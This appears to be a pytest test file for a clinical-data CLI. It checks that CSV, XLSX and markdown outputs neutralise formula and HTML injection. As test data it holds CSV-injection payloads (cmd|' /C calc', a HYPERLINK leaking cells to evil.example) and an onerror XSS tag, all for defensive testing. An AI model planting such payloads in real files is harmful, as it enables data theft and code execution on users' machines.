"""Formula and markup injection through every field into every output file (issue #16).

Payloads (OWASP's CSV-injection examples and an HTML tag) go in through record
ids, values, reasons, plan labels and schema labels; every CSV and XLSX file
kypho then writes is read back and each cell checked: no text cell starts with
``=``, ``+``, ``-``, ``@``, tab or CR unless it is a number or carries the
leading apostrophe (CSV) or Excel's quote prefix (XLSX), and no XLSX cell is a
formula. ``report.md`` must not contain a raw HTML tag from a label. Each check
also asserts that the payload did reach the file, so that it cannot pass on an
empty file.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner, Result

from kypho.analysis.demo import demo_cohort
from kypho.cli import main
from kypho.io import write_table
from kypho.output.cells import TRIGGERS, neutralise

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
PAYLOADS = (
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TAG = "<img src=x onerror=alert(1)>"
MARK = "cmd|"  # in three payloads: shows the payloads reached a file


def csv_cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            yield from row


def assert_csv_safe(path: Path) -> None:
    cells = list(csv_cells(path))
    assert any(MARK in c for c in cells), f"no payload reached {path.name}"
    live = [c for c in cells if neutralise(c) != c]
    assert live == [], f"{path.name}: cells a spreadsheet would run: {live}"
    assert all(not c.startswith(TRIGGERS) or c[0] in "-+" for c in cells if c[:1] != "'")


def assert_xlsx_safe(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    seen = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{cell.coordinate} is a formula"
                value = cell.value
                if isinstance(value, str):
                    seen = seen or MARK in value
                    if neutralise(value) != value:
                        assert cell.quotePrefix, f"{path.name}!{cell.coordinate}: {value!r}"
    assert seen, f"no payload reached {path.name}"


def cli(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cohort with payloads in ids and values; some rows rejected because of them."""
    raw = demo_cohort(40, seed=4).astype(object)
    for i, payload in enumerate(PAYLOADS):
        raw.loc[i, "notes"] = payload
        raw.loc[i, "patient_name"] = payload
    raw.loc[10, "patient_id"] = FORMULA
    raw.loc[10, "age"] = "old"  # rejected: the id reaches data_quality.csv
    raw.loc[11, "age"] = PAYLOADS[1]  # rejected: the value reaches it
    raw.loc[12, "patient_id"] = PAYLOADS[3]  # accepted with a hostile id
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    # every field quoted: an unquoted carriage return inside a record makes its records
    # ambiguous, which kypho's reader refuses (RFC 4180 quotes fields holding CR or LF)
    raw.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    return path


def test_analyze_outputs(hostile: Path, tmp_path: Path) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        "tables:\n"
        "  - number: 8\n"
        f"    title: {TAG} +cmd|x\n"
        "    footnotes: [\"-cmd|' /C calc'!A0\"]\n"
        "    rows:\n"
        f'      - {{kind: section, label: "{TAG}"}}\n'
        "      - {variable: hb_pre, label: \"=cmd|' /C calc'!A0\"}\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = cli(
        "analyze", str(hostile), "--out", str(out), "--plan", str(plan), "--no-figures", "-q",
        "--format", "csv", "--format", "md",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    for name in ("tables.csv", "results.csv", "data_quality.csv"):
        assert_csv_safe(out / name)
    report = (out / "report.md").read_text(encoding="utf-8")
    assert "&lt;img src=x" in report
    assert TAG not in report


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_validate_report(hostile: Path, tmp_path: Path, suffix: str) -> None:
    report = tmp_path / f"problems{suffix}"
    result = cli("validate", str(hostile), "--report", str(report))
    assert result.exit_code == 1, result.output
    (assert_csv_safe if suffix == ".csv" else assert_xlsx_safe)(report)


@pytest.fixture
def store(tmp_path: Path, hostile: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path / 'study.db'}"
    monkeypatch.setenv("KYPHO_USER", "ada")
    monkeypatch.setenv("KYPHO_DB_URL", url)
    assert cli("db", "init").exit_code == 0
    report = tmp_path / "import.csv"
    result = cli("db", "import", str(hostile), "--reason", PAYLOADS[2], "--report", str(report))
    assert result.exit_code == 1, result.output  # two rows rejected
    assert_csv_safe(report)
    record = PAYLOADS[3]
    assert (
        cli("db", "edit", record, "--set", f"notes={FORMULA}", "--reason", FORMULA).exit_code == 0
    )
    return url


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("full", [False, True])
def test_db_export(store: str, tmp_path: Path, suffix: str, full: bool) -> None:
    out = tmp_path / f"export{suffix}"
    extra = ["--full", "--reason", "registry linkage"] if full else []
    result = cli("db", "export", str(out), *extra)
    assert result.exit_code == 0, result.output
    if not full:
        # notes and names are dropped; the hostile id is what remains
        frame = pd.read_csv(out) if suffix == ".csv" else pd.read_excel(out)
        assert "'" + PAYLOADS[3] in set(frame["patient_id"]) or suffix == ".xlsx"
    (assert_csv_safe if suffix == ".csv" else assert_xlsx_safe)(out)


def test_db_log_output(store: str, tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    result = cli("db", "log", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert_csv_safe(out)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".md"])
def test_dictionary_and_template(tmp_path: Path, suffix: str) -> None:
    extension = tmp_path / "ext.yaml"
    extension.write_text(
        "variables:\n"
        "  - {name: extra_note, type: string, label: \"=cmd|' /C calc'!A0\",\n"
        f'     description: "{TAG} @SUM(1)+cmd|x"}}\n',
        encoding="utf-8",
    )
    out = tmp_path / f"dictionary{suffix}"
    assert cli("dictionary", "--extension", str(extension), "--out", str(out)).exit_code == 0
    if suffix == ".csv":
        assert_csv_safe(out)
    elif suffix == ".xlsx":
        assert_xlsx_safe(out)
    else:
        text = out.read_text(encoding="utf-8")
        assert "&lt;img" in text
        assert TAG not in text
    template = tmp_path / "entry.xlsx"
    assert cli("template", "--extension", str(extension), "--out", str(template)).exit_code == 0
    assert_xlsx_safe(template)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table(tmp_path: Path, suffix: str) -> None:
    frame = pd.DataFrame(
        {"patient_id": ["P1", *PAYLOADS], "notes": [*PAYLOADS, "ok"], "t": [-1.5] * 7}
    )
    out = write_table(frame, tmp_path / f"records{suffix}")
    (assert_csv_safe if suffix == ".csv" else assert_xlsx_safe)(out)
    back = pd.read_csv(out) if suffix == ".csv" else pd.read_excel(out, sheet_name="Data")
    assert back["t"].tolist() == [-1.5] * 7  # a negative number stays a number


def test_neutralise_rules() -> None:
    assert neutralise("-1.5") == "-1.5"
    assert neutralise("+2e3") == "+2e3"
    assert neutralise(-3) == -3
    assert neutralise("-") == "'-"
    assert neutralise("-1+2") == "'-1+2"
    assert neutralise("  =1") == "'  =1"
    assert neutralise("P-017") == "P-017"
    assert neutralise("") == ""
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
